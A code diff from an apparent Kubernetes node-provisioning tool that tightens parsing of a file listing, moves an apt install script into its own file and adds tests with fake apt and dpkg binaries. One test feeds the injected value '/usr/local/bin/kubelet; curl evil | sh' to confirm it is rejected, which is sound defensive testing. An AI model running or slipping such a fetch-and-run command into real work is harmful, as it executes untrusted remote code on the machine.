@@ -130,7 +130,12 @@ pub(super) fn read(answers: &Answers) -> Result<AptFacts, Gap> {
             packages.insert(name.to_owned(), Package { version: version.to_owned(), whole: status == "installed", held: want == "hold" });
         }
     }
-    Ok(AptFacts { packages, rivals: lines("node/rivals")?, hiding: lines("node/hiding")? })
+    // They stand in a command that is shown: only what was asked for is taken.
+    let hiding: Vec<String> = lines("node/hiding")?;
+    match hiding.iter().find(|file| !HIDING.contains(&file.as_str())) {
+        Some(other) => Err(Gap::new(format!("ls answered with a file that was not asked for: {other:?}"))),
+        None => Ok(AptFacts { packages, rivals: lines("node/rivals")?, hiding }),
+    }
 }
 
 /// Why packages are not installed on a node.
@@ -155,48 +160,12 @@ pub(super) fn obstacles(node: &Name, wanted: &Packages, facts: &AptFacts) -> Vec
 
 /// Installs exactly that version and holds it. A run that was killed is taken up again.
 pub(super) fn install(version: &str, address: &str) -> Procedure {
-    let names = NAMES.join(" ");
-    let guard = format!(
-        "names='{names}' version={} uri={} begun={BEGUN}\n\
-         state() {{ dpkg-query -W -f '${{Package}} ${{db:Status-Status}} ${{db:Status-Want}} ${{Version}}\\n' $names 2>/dev/null || true; }}\n\
-         whole() {{ [ \"$(state | awk -v v=\"$version-\" '$2 == \"installed\" && $3 == \"hold\" && index($4, v) == 1' | wc -l)\" = {} ]; }}\n\
-         if whole; then rm -f \"$begun\"; already; fi\n\
-         other=$(state | awk -v v=\"$version-\" '$2 != \"not-installed\" && $2 != \"config-files\" && index($4, v) != 1 {{ print $1, $4 }}')\n\
-         [ -z \"$other\" ] || refuse \"of another version: $other\"",
-        quote(version),
-        quote(address),
-        NAMES.len()
-    );
-    // Only our own source is read again: what else the machine has is its administrator's. The whole is asked when a dependency is missing.
-    // Our lists go first: apt does not sync them, and takes one that a power cut left empty for the repository's own.
-    // And it keeps what dpkg calls half-installed, unless told to install it again.
-    let act = format!(
-        "export DEBIAN_FRONTEND=noninteractive NEEDRESTART_SUSPEND=1\n\
-         wait='-o DPkg::Lock::Timeout=300'\n\
-         again=\n\
-         if [ -e \"$begun\" ]; then\n\
-         dpkg --force-confold --configure -a || true\n\
-         again=$(dpkg-query -W -f '${{db:Status-Eflag}} ${{Package}}\\n' | awk '$1 == \"reinstreq\" {{ print $2 }}')\n\
-         fi\n\
-         lists=$(apt-get indextargets --format '$(FILENAME)' \"Repo-URI: $uri/\" 'Created-By: Packages' | head -n 1)\n\
-         case $lists in /*_Packages) rm -f \"${{lists%Packages}}\"* ;; esac\n\
-         apt-get -q $wait update -o Dir::Etc::sourcelist={SOURCES} -o Dir::Etc::sourceparts=- -o APT::Get::List-Cleanup=0 -o APT::Update::Error-Mode=any || {{\n\
-         echo \"apt did not take $uri: does it answer, and is kubernetes.packages.key the key that signs it?\" >&2; exit 1; }}\n\
-         wanted=\n\
-         for name in $names; do\n\
-         all=$(apt-cache madison \"$name\" | awk -v u=\"$uri\" 'index($0, u) {{ print $3 }}')\n\
-         found=$(awk -v v=\"$version-\" 'index($0, v) == 1 && !n++' <<< \"$all\")\n\
-         [ -n \"$found\" ] || refuse \"$name $version is not in $uri, which has: $(tr '\\n' ' ' <<< \"$all\")\"\n\
-         wanted=\"$wanted $name=$found\"\n\
-         done\n\
-         apt='apt-get -q -y --no-install-recommends --no-remove -o Dpkg::Options::=--force-confold'\n\
-         $apt -s install $wanted > /dev/null 2>&1 || apt-get -q $wait update || true\n\
-         mkdir -p \"$(dirname \"$begun\")\"; touch \"$begun\"; sync \"$begun\"\n\
-         others=$(tr ' ' '\\n' <<< \"$again\" | grep -vxF \"$(tr ' ' '\\n' <<< \"$names\")\" || true)\n\
-         $apt $wait ${{again:+--reinstall}} install $wanted $others\n\
-         apt-mark hold $names > /dev/null"
-    );
-    Procedure::new(guard, act, "whole || unverified \"the packages are: $(state)\"\nrm \"$begun\"")
+    Procedure::script(include_str!("scripts/packages.sh"))
+        .list("names", NAMES)
+        .var("version", version)
+        .var("uri", address)
+        .var("source", SOURCES)
+        .var("begun", BEGUN)
 }
 
 #[cfg(test)]
@@ -249,10 +218,65 @@ mod tests {
         assert!(obstacles(&node, &wanted(), &found).is_empty());
         found.rivals.push("/etc/apt/sources.list.d/k8s.list".into());
         found.hiding.push("/usr/local/bin/kubelet".into());
+        let none = [("node/packages", 0, ""), ("node/rivals", 0, "")];
+        for (said, good) in [("/usr/local/bin/kubelet\n", true), ("/usr/local/bin/kubelet; curl evil | sh\n", false)] {
+            assert_eq!(read(&Answers::from_pairs(none.into_iter().chain([("node/hiding", 0, said)]))).is_ok(), good, "{said}");
+        }
         let text: String = obstacles(&node, &wanted(), &found).iter().map(|h| format!("{} {}\n", h.reason, h.hint)).collect();
         assert!(text.contains("k8s.list") && text.contains("rm /usr/local/bin/kubelet"), "{text}");
     }
 
+    /// The real script with an apt and a dpkg that answer from files: `installed` is what dpkg tells, `simulated` what apt would do.
+    fn install_on(root: &std::path::Path, installed: &str, simulated: &str) -> (Option<i32>, String) {
+        use std::os::unix::fs::PermissionsExt as _;
+        let write = |path: &str, text: &str| {
+            let path = root.join(path);
+            std::fs::create_dir_all(path.parent().unwrap()).unwrap();
+            std::fs::write(&path, text).unwrap();
+            std::fs::set_permissions(path, std::fs::Permissions::from_mode(0o755)).unwrap();
+        };
+        write("installed", installed);
+        write("simulated", simulated);
+        write("bin/dpkg-query", "#!/bin/bash\ncat \"${0%/*}/../installed\"\n");
+        write(
+            "bin/apt-get",
+            "#!/bin/bash\nr=${0%/*}/..; echo \"$*\" >> $r/asked\ncase \" $* \" in\n*' -s '*) cat $r/simulated ;;\n\
+             *' install '*) printf '%s installed hold 1.37.1-1.1\\n' kubeadm kubelet kubectl > $r/installed ;;\nesac\n",
+        );
+        write("bin/apt-cache", "#!/bin/bash\necho \"$2 | 1.37.1-1.1 | https://pkgs.k8s.io/core:/stable:/v1.37/deb  Packages\"\n");
+        write("bin/apt-mark", "#!/bin/bash\necho \"mark $*\" >> \"${0%/*}/../asked\"\n");
+        let script = install("1.37.1", &wanted().address()).command().script().into_owned();
+        let script = ["/run/kubestead.act", BEGUN]
+            .iter()
+            .fold(script, |script, path| script.replace(path, &format!("{}/{}", root.display(), path.rsplit_once('/').unwrap().1)))
+            .replace("PATH=/usr/local/sbin:", &format!("PATH={}/bin:/usr/local/sbin:", root.display()));
+        let out = std::process::Command::new("bash").args(["-c", &script]).output().unwrap();
+        (out.status.code(), String::from_utf8_lossy(&out.stderr).into_owned())
+    }
+
+    #[test]
+    fn packages_come_and_are_held_and_what_is_there_stays_as_it_is() {
+        let asked = |root: &std::path::Path| std::fs::read_to_string(root.join("asked")).unwrap_or_default();
+        let fresh = "Inst kubelet (1.37.1-1.1 x [amd64])\nInst conntrack (1:1.4 Debian:12 [amd64])\nConf kubelet (1.37.1-1.1 x)\n";
+        let root = tempfile::tempdir().unwrap();
+        let (status, said) = install_on(root.path(), "", fresh);
+        assert_eq!(status, Some(0), "{said}");
+        let text = asked(root.path());
+        assert!(
+            text.contains("install kubeadm=1.37.1-1.1 kubelet=1.37.1-1.1 kubectl=1.37.1-1.1\nmark hold kubeadm kubelet kubectl"),
+            "{text}"
+        );
+        assert!(text.contains("--no-remove") && text.contains("--force-confold") && !root.path().join("packages-begun").exists(), "{text}");
+        // A dependency that is there in another version, perhaps held, is not changed.
+        let root = tempfile::tempdir().unwrap();
+        let (status, said) = install_on(root.path(), "", &format!("{fresh}Inst kubernetes-cni [1.2.0-1.1] (1.8.0-1.1 x [amd64])\n"));
+        assert!(status == Some(90) && said.contains("kubernetes-cni"), "{said}");
+        assert!(asked(root.path()).lines().all(|l| l.contains(" -s ") || !l.contains("install")), "{}", asked(root.path()));
+        // Another version of the programs is refused before apt is asked for anything.
+        let root = tempfile::tempdir().unwrap();
+        let (status, said) = install_on(root.path(), "kubelet installed hold 1.36.2-1.1\n", fresh);
+        assert!(status == Some(90) && said.contains("kubelet 1.36.2-1.1") && asked(root.path()).is_empty(), "{said}");
+    }
     #[test]
     fn the_scripts_are_ones_that_bash_can_read() {
         let script = install("1.37.1", &wanted().address()).command().script().into_owned();
